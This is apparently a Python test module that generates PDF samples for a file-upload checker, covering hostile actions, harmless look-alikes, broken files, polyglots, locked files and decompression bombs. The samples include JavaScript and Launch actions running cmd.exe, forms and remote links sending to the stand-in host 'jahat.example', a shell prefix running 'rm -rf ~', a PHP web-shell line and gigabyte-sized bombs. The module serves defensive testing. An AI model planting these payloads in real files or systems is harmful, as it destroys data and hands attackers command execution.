"""PDF files: harmless ones that look odd, and hostile ones that look harmless."""

import io
import zipfile
import zlib

from tests.submissions.hostile.case import ACTIVE, BROKEN, EICAR, HTML, LOCKED, MIXED, PAGES, TOO_MUCH, Case, zeros
from tests.submissions.hostile.paper import locked, many_pages, objects, packed, pdf, stream, updated, written

KEPT = "application/pdf"
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"

ACTIONS = {
    "javascript": SCRIPT,
    "javascript-spaced": b"<< /S\n/JavaScript\t/JS <6170702E>  >>",
    "javascript-hidden-name": b"<</S/J#61vaScrip#74/J#53(x)>>",
    "javascript-after-comment": b"<</S % kosong\n/JavaScript /JS(x)>>",
    "javascript-as-second": b"<</S/URI/URI(https://surakarta.go.id)/Next<</S/JavaScript/JS(x)>>>>",
    "javascript-elsewhere": b"<</S/JavaScript/JS 3 0 R>>",
    "launch": b"<</S/Launch/F(cmd.exe)>>",
    "launch-windows": b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>",
    "launch-hidden-name": b"<</#53/L#61unch/F(cmd.exe)>>",
    "submit-form": b"<</S/SubmitForm/F(https://jahat.example)>>",
    "import-data": b"<</S/ImportData/F(x.fdf)>>",
    "goto-embedded": b"<</S/GoToE/T<</R/C/N(x)>>>>",
    "goto-remote": b"<</S/GoToR/F(\\\\\\\\jahat.example\\\\x.pdf)/D[0/Fit]>>",
    "rendition": b"<</S/Rendition/JS(x)/OP 0>>",
    "movie": b"<</S/Movie/T(x)>>",
}


def places(action):
    """Where an action can wait: (name of the place, parts of the document)."""
    yield "on-opening", {"catalog": b"/OpenAction " + action}
    yield "on-a-page", {"page": b"/AA<</O " + action + b">>"}
    yield "in-a-link", {"page": b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A " + action + b">>]"}


def active():
    for name, action in ACTIONS.items():
        for place, parts in places(action):
            yield f"{name}-{place}.pdf", lambda parts=parts: pdf(**parts)
    for name in ("javascript", "javascript-hidden-name", "launch", "submit-form", "goto-remote", "movie"):
        yield f"{name}-packed.pdf", lambda name=name: packed(catalog=b"/OpenAction " + ACTIONS[name])
    yield "javascript-among-names.pdf", lambda: pdf(catalog=b"/Names<</JavaScript<</Names[(a)4 0 R]>>>>")
    yield "javascript-in-a-field.pdf", lambda: pdf(b"<</FT/Tx/T(a)/AA<</C" + SCRIPT + b">>>>")
    yield "javascript-in-a-bookmark.pdf", lambda: pdf(b"<</Title(a)/A 5 0 R>>", SCRIPT, catalog=b"/Outlines 4 0 R")
    yield "javascript-in-a-stream.pdf", lambda: pdf(b"<</S/JavaScript/JS 5 0 R>>", stream(b"app.alert(1)"))
    yield "javascript-that-others-point-to.pdf", lambda: packed(SCRIPT, catalog=b"/OpenAction 4 0 R")
    yield "javascript-in-an-update.pdf", lambda: updated(pdf(), 4, SCRIPT)
    yield "javascript-before-an-update.pdf", lambda: updated(pdf(SCRIPT), 4, b"null")
    yield "javascript-outside-the-table.pdf", lambda: pdf(head=b"%PDF-1.7\n9 0 obj\n" + SCRIPT + b"\nendobj\n")
    yield (
        "embedded-file.pdf",
        lambda: pdf(
            stream(EICAR, b"/Type/EmbeddedFile"), b"<</Type/Filespec/F(a.exe)/EF<</F 4 0 R>>>>", catalog=b"/AF[5 0 R]"
        ),
    )
    yield "embedded-file-packed.pdf", lambda: packed(b"<</F(a)/EF<</F 9 0 R>>>>", catalog=b"/AF[4 0 R]")
    yield "embedded-file-unnamed.pdf", lambda: pdf(stream(b"MZ"), b"<</F(a.exe)/E#46 <</F 4 0 R>>>>")
    yield "embedded-files-in-a-tree.pdf", lambda: pdf(catalog=b"/Names<</EmbeddedFiles<</Names[]>>>>")
    yield (
        "attachment-pinned-to-a-page.pdf",
        lambda: pdf(page=b"/Annots[<</Subtype/FileAttachment/FS<</F(a)/EF<</F 4 0 R>>>>>>]"),
    )
    yield "rich-media.pdf", lambda: pdf(page=b"/Annots[<</Subtype/RichMedia/Rect[0 0 9 9]>>]")
    yield "xfa-form.pdf", lambda: pdf(stream(b"<xdp/>"), catalog=b"/AcroForm<</Fields[]/XFA 4 0 R>>")
    yield "xfa-form-packed.pdf", lambda: packed(catalog=b"/AcroForm<</Fields[]/XFA 9 0 R>>")

    yield from by_itself()


def by_itself():
    """What calls out or prints when the file is opened or a page is seen, though nobody presses anything."""
    call, call_on_opening = b"<</S/URI/URI(https://jahat.example)>>", b"<</O 4 0 R>>"
    yield "calls-out-on-opening.pdf", lambda: pdf(catalog=b"/OpenAction" + call)
    yield "calls-out-on-opening-packed.pdf", lambda: packed(call, catalog=b"/OpenAction 4 0 R")
    yield "calls-out-after-going-to-a-page.pdf", lambda: pdf(catalog=b"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next 4 0 R>>")
    yield "calls-out-when-a-page-is-seen.pdf", lambda: pdf(page=b"/AA<</O" + call + b">>")
    yield "calls-out-by-two-steps.pdf", lambda: pdf(call, call_on_opening, page=b"/AA 5 0 R")
    yield "prints-on-opening.pdf", lambda: pdf(catalog=b"/OpenAction<</S/Named/N/Print>>")


def harmless():
    yield "plain.pdf", pdf
    yield "packed.pdf", packed
    yield "packed-script-that-nothing-points-to.pdf", lambda: packed(SCRIPT)
    yield "updated.pdf", lambda: updated(pdf(b"null"), 4, b"<</A 1>>")
    yield "newest-version.pdf", lambda: pdf(head=b"%PDF-2.0\n")
    yield "white-space-first.pdf", lambda: b"\r\n \r\n" + pdf()
    yield "byte-order-mark-first.pdf", lambda: b"\xef\xbb\xbf" + pdf()
    yield "white-space-last.pdf", lambda: pdf() + b"\r\n\0\0 " * 2000
    yield "three-hundred-pages.pdf", lambda: many_pages(300)
    yield "table-in-the-wrong-place.pdf", lambda: written(objects(), start=7)
    yield "link.pdf", lambda: pdf(page=b"/Annots[<</Subtype/Link/A<</S/URI/URI(https://surakarta.go.id)>>>>]")
    yield "opens-on-its-page.pdf", lambda: pdf(catalog=b"/OpenAction[3 0 R/Fit]")
    yield "opens-on-a-named-place.pdf", lambda: packed(b"<</S/GoTo/D(awal)>>", catalog=b"/OpenAction 4 0 R")
    yield "picture-named-like-a-moment.pdf", lambda: pdf(b"null", page=b"/Resources<</XObject<</AA 4 0 R>>>>/AA<<>>")
    yield "form-to-fill-in.pdf", lambda: pdf(b"<</FT/Tx/T(nama)>>", catalog=b"/AcroForm<</Fields[4 0 R]>>")
    yield "signature.pdf", lambda: pdf(b"<</FT/Sig/T(ttd)/V<</Type/Sig/Contents<00>>>>>")
    yield (
        "title-speaks-of-javascript.pdf",
        lambda: pdf(b"<</Title(PHP/JavaScript /JS /Launch)>>", trailer=b"/Info 4 0 R"),
    )
    yield "keywords-speak-of-javascript.pdf", lambda: pdf(stream(b"<dc>HTML/JavaScript/Launch</dc>", b"/Type/Metadata"))
    yield "text-speaks-of-javascript.pdf", lambda: pdf(stream(b"BT (/JavaScript /EF) Tj ET"), page=b"/Contents 4 0 R")
    yield "names-that-only-begin-so.pdf", lambda: pdf(b"<</JSON 1/Launcher 2/EFA 3/JavaScripts 4>>")
    yield "picture-with-such-bytes.pdf", lambda: pdf(stream(b"\x00/JS\x01/EF \xff/Movie ", b"/Subtype/Image"))


def broken():
    yield "only-a-header.pdf", lambda: b"%PDF-1.7"
    yield "header-and-noise.pdf", lambda: b"%PDF-1.7\n" + bytes(range(1, 250)) * 20
    yield "half.pdf", lambda: pdf()[:60]
    yield "no-catalog.pdf", lambda: written([b"null", b"<<>>"])
    yield "catalog-that-is-a-number.pdf", lambda: written([b"42"])
    yield "word-in-a-pdf-name.pdf", lambda: b"%PDF-" + b"A" * 5000
    yield "nested-to-the-sky.pdf", lambda: b"%PDF-1.7\n1 0 obj\n" + b"[" * 200_000


def mixed():
    yield "page-of-the-web-first.pdf", lambda: HTML + pdf()
    yield "script-for-the-shell-first.pdf", lambda: b"#!/bin/sh\nrm -rf ~\n" + pdf()
    yield "program-first.pdf", lambda: b"MZ\x90\0" + b"\0" * 60 + pdf()
    yield "gif-first.pdf", lambda: b"GIF89a/*" + b"\0" * 10 + pdf()
    yield "page-of-the-web-in-the-header.pdf", lambda: pdf(head=b"%PDF-1.7\n%" + HTML + b"\n")
    yield "php-in-the-header.pdf", lambda: pdf(head=b"%PDF-1.7\n%<?php system($_GET[0]); ?>\n")
    yield "svg-in-the-header.pdf", lambda: pdf(head=b"%PDF-1.7\n%<SVG onload=alert(1)>\n")
    yield "page-of-the-web-last.pdf", lambda: pdf() + HTML
    yield "program-last.pdf", lambda: pdf() + b"MZ\x90\0"
    yield "virus-sample-last.pdf", lambda: pdf() + EICAR
    yield "archive-last.pdf", lambda: pdf() + archive({"Main.class": b"\xca\xfe\xba\xbe"})
    yield "archive-last-and-an-end-mark-in-its-comment.pdf", lambda: pdf() + archive({"a": b"a"}, comment=b"%%EOF")


def archive(members, comment=b""):
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w") as packed_file:
        for name, content in members.items():
            packed_file.writestr(name, content)
        packed_file.comment = comment
    return target.getvalue()


def cases():
    groups = ((active, ACTIVE), (harmless, KEPT), (broken, BROKEN), (mixed, MIXED))
    yield from (Case(name, make, verdict) for group, verdict in groups for name, make in group())
    yield Case("password.pdf", lambda: locked(b"rahasia"), LOCKED)
    yield Case("restricted-without-a-password.pdf", lambda: locked(b""), LOCKED)
    yield Case("locked-in-no-known-way.pdf", lambda: pdf(trailer=b"/Encrypt<</Filter/Entah/V 9>>"), LOCKED)
    yield Case("three-hundred-and-one-pages.pdf", lambda: many_pages(301), PAGES)
    yield Case(
        "no-page.pdf", lambda: written([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 0/Kids[]>>"]), BROKEN
    )
    yield Case("hundred-thousand-pages.pdf", lambda: many_pages(100_000), PAGES, is_bomb=True)
    yield Case("claims-a-billion-pages.pdf", lambda: pdf(count=1_000_000_000), KEPT, is_bomb=True)
    yield Case("packed-objects-of-a-gigabyte.pdf", lambda: packed(inflated=zeros(1024)), TOO_MUCH, is_bomb=True)
    yield Case("table-of-a-gigabyte.pdf", lambda: packed(table=zeros(1024)), TOO_MUCH, is_bomb=True)
    twice = zlib.compress(zeros(900))
    yield Case("text-of-a-gigabyte.pdf", lambda: pdf(stream(zeros(1024), b"/Filter/FlateDecode")), KEPT, is_bomb=True)
    yield Case(
        "text-folded-twice.pdf", lambda: pdf(stream(twice, b"/Filter[/FlateDecode/FlateDecode]")), KEPT, is_bomb=True
    )
    yield Case("claims-a-billion-packed-objects.pdf", lambda: packed(count=1_000_000_000), BROKEN, is_bomb=True)
